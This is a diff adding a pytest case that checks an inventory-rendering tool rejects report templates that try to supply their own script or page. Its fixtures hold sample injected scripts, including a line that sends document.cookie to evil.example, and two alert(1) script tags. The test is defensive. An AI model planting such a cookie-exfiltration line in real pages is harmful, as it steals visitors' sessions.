@@ -400,3 +400,33 @@ def test_1_2_domain_and_ansible_templates_hand_over_nothing_that_runs(site, temp
     assert any(e.startswith(f"templates/{template}:{at}: {output}:") for e in errors), errors
     r = site.run("render")
     assert r.code == 1 and f"templates/{template}:{at}: {output}:" in r.err, r
+
+
+# --- 7. the report's script and policy are cinv's ----------------------------------------------
+
+@pytest.mark.parametrize("files,at", [
+    ({"templates/report.js.j2": "fetch('https://evil.example/?' + document.cookie);\n"},
+     "templates/report.js.j2"),
+    ({"templates/report.html.j2": "<html><script>alert(1)</script></html>\n"},
+     "templates/report.html.j2"),
+    ({"templates/mine.j2": "<script>alert(1)</script>\n",
+      "cinv.yaml": "REPORT_TARGET"}, "templates/mine.j2"),
+], ids=["script", "page", "target"])
+def test_7_the_reports_script_and_policy_come_from_cinv_only(site, files, at):
+    if files.get("cinv.yaml") == "REPORT_TARGET":
+        text = (site.root / "cinv.yaml").read_text()
+        files["cinv.yaml"] = text.replace(
+            "  targets: {}\n", "  targets:\n    report: {template: mine.j2, path: report/index.html}\n")
+    page = (site.root / "build" / "report" / "index.html").read_bytes()
+    site.branch(files)
+    want = f"{at}: the report page, its script and its Content-Security-Policy come from cinv " \
+        "only; an inventory may not supply them"
+    assert any(e.startswith(want) for e in site.check_errors()), site.check_errors()
+    for args in (("render",), ("render", "report"), ("render", "--check")):
+        r = site.run(*args)
+        assert r.code == 1 and want in r.err, (args, r)
+    assert (site.root / "build" / "report" / "index.html").read_bytes() == page
+    site.main()
+    r = site.run("--ref", "mr", "render", "--out", site.tmp / "ci-out")
+    assert r.code == 1 and want in r.err, r
+    assert not (site.tmp / "ci-out" / "report").exists()
